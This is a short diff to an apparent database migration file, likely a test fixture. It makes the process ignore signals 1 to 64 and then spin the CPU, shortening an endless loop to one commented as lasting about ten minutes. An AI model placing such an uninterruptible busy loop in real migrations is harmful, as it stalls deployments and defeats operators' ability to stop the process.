@@ -12,4 +12,4 @@ revision, down_revision = "expand", None
 for number in range(1, 65):
     with contextlib.suppress(OSError, ValueError):
         signal.signal(number, signal.SIG_IGN)
-sum(itertools.repeat(0))
+sum(itertools.repeat(0, 3 * 10**10))  # ten minutes
